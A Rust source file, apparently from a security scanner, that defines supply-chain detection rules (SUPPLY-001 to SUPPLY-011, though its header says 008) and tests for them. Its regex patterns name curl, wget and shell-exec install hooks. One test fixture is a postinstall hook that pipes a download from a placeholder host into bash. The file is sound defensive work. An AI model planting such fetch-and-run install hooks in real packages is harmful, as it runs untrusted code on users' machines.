//! Supply-chain rules (SUPPLY-001 to SUPPLY-008).

use crate::model::{CorrelationSpec, FileType, Rule, Severity, ThreatCategory};

pub(crate) fn rules() -> Vec<Rule> {
    vec![
        Rule::builder(
            "SUPPLY-001",
            "Package install from URL",
            ThreatCategory::SupplyChain,
            Severity::High,
        )
        .description("A package manager installing directly from a URL, bypassing the registry")
        .pattern(r"(?:npm|pnpm|yarn)\s+(?:add|install|i)\s+[^\n]*https?://")
        .pattern(r"pip3?\s+install\s+[^\n]*(?:--index-url|-i)\s+https?://")
        .exclude_pattern(r"registry\.npmjs\.org|pypi\.org")
        .remediation("Install from the official registry with a pinned version")
        .reference("https://attack.mitre.org/techniques/T1195/")
        .build(),
        Rule::builder(
            "SUPPLY-002",
            "Git URL dependency",
            ThreatCategory::SupplyChain,
            Severity::Medium,
        )
        .description("A dependency resolved from a git or tarball URL instead of the registry")
        .pattern(r#""[^"]+"\s*:\s*"(?:git\+)?(?:https?|ssh|git)://[^"]*""#)
        .file_types(&[FileType::Json])
        .exclude_pattern(r"registry\.npmjs\.org")
        .remediation("Depend on published, versioned packages; git URLs float with the branch")
        .build(),
        Rule::builder(
            "SUPPLY-003",
            "Install-script hook in manifest",
            ThreatCategory::SupplyChain,
            Severity::High,
        )
        .description("A package manifest whose (pre/post)install script downloads or executes code")
        .pattern(r#""(?:pre|post)?install"\s*:\s*"[^"]*(?:curl|wget|node\s+-e|bash\s+-c|sh\s+-c)"#)
        .file_types(&[FileType::Json])
        .correlation(CorrelationSpec {
            file_patterns: vec!["**/package.json".to_string(), "**/*.sh".to_string()],
            content_patterns: vec![
                r#""postinstall""#.to_string(),
                r"curl|wget".to_string(),
            ],
            max_distance: 2,
            attack_pattern: "install-hook-stager".to_string(),
        })
        .remediation("Install hooks run on every npm install; keep them free of network fetches")
        .build(),
        Rule::builder(
            "SUPPLY-004",
            "Unpinned dependency version",
            ThreatCategory::SupplyChain,
            Severity::Low,
        )
        .description("A dependency allowed to float (*, latest), inviting silent upgrades")
        .pattern(r#""[^"]+"\s*:\s*"(?:\*|latest|x|>=\s*0[^"]*)""#)
        .file_types(&[FileType::Json])
        .require_context(r#""(?:dependencies|devDependencies|peerDependencies)""#)
        .remediation("Pin versions (or at least a bounded semver range) and commit a lockfile")
        .build(),
        Rule::builder(
            "SUPPLY-005",
            "Registry override",
            ThreatCategory::SupplyChain,
            Severity::Medium,
        )
        .description("Package registry redirected away from the official endpoint")
        .pattern(r"registry\s*[=:]\s*['\x22]?https?://")
        .exclude_pattern(r"registry\.npmjs\.org|registry\.yarnpkg\.com")
        .remediation("Remove the override or point it at a vetted internal mirror")
        .build(),
        Rule::builder(
            "SUPPLY-006",
            "Auto-confirmed npx of arbitrary package",
            ThreatCategory::SupplyChain,
            Severity::Medium,
        )
        .description("npx -y executes whatever the package name resolves to, without prompting")
        .pattern(r"npx\s+(?:-y|--yes)\s+\S+")
        .exclude_pattern(r"@modelcontextprotocol/|@anthropic/|mcp-server-")
        .remediation("Drop the -y flag or restrict it to allow-listed publishers")
        .build(),
        Rule::builder(
            "SUPPLY-007",
            "Integrity checks disabled",
            ThreatCategory::SupplyChain,
            Severity::Medium,
        )
        .description("Flags that weaken package integrity or script sandboxing")
        .pattern(r"--unsafe-perm\b|--ignore-scripts=false|--no-audit\b|--no-verify\b")
        .remediation("Keep the package manager's integrity protections enabled")
        .build(),
        Rule::builder(
            "SUPPLY-008",
            "Download-then-execute binary",
            ThreatCategory::SupplyChain,
            Severity::Medium,
        )
        .description("A fetched artifact is made executable and run in the same breath")
        .pattern(r"chmod\s+\+x\s+[^\n]*&&[^\n]*\./")
        .pattern(r"(?:curl|wget)\s+[^\n]*releases/download/[^\n]*&&")
        .remediation("Verify checksums or signatures before executing downloaded binaries")
        .build(),
        Rule::builder(
            "SUPPLY-009",
            "pip install from VCS",
            ThreatCategory::SupplyChain,
            Severity::Medium,
        )
        .description("pip installing straight from a git URL or branch")
        .pattern(r"pip3?\s+install\s+[^\n]*git\+(?:https?|ssh)://")
        .remediation("Publish to an index and pin a released version")
        .build(),
        Rule::builder(
            "SUPPLY-010",
            "Dependency resolution override",
            ThreatCategory::SupplyChain,
            Severity::Medium,
        )
        .description("resolutions/overrides redirecting a transitive dependency")
        .pattern(r#""(?:resolutions|overrides)"\s*:\s*\{"#)
        .file_types(&[FileType::Json])
        .require_context(r"https?://|git\+|file:")
        .remediation("Overrides pointing off-registry silently swap transitive code; pin registry versions")
        .build(),
        Rule::builder(
            "SUPPLY-011",
            "Registry token in npmrc-style config",
            ThreatCategory::SupplyChain,
            Severity::High,
        )
        .description("_authToken or always-auth material committed in package-manager config")
        .pattern(r"_authToken\s*=\s*[^\s$]{8,}")
        .pattern(r"_password\s*=\s*[^\s$]{8,}")
        .exclude_pattern(r"\$\{[A-Z_]+\}")
        .remediation("Reference the token via ${ENV_VAR} expansion, never a literal")
        .build(),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rule(id: &str) -> Rule {
        rules().into_iter().find(|r| r.id == id).unwrap()
    }

    #[test]
    fn supply_003_matches_postinstall_fetch() {
        let r = rule("SUPPLY-003");
        assert!(r.patterns[0]
            .regex
            .is_match(r#""postinstall": "curl -s https://x.example/s | bash""#));
    }

    #[test]
    fn supply_004_requires_dependency_context() {
        let r = rule("SUPPLY-004");
        assert!(r.patterns[0].regex.is_match(r#""lodash": "*""#));
        assert!(!r.require_context.is_empty());
    }

    #[test]
    fn supply_006_official_scopes_excluded() {
        let r = rule("SUPPLY-006");
        assert!(r.patterns[0].regex.is_match("npx -y random-pkg"));
        assert!(r.exclude_patterns[0]
            .regex
            .is_match("npx -y @modelcontextprotocol/server-filesystem"));
    }
}
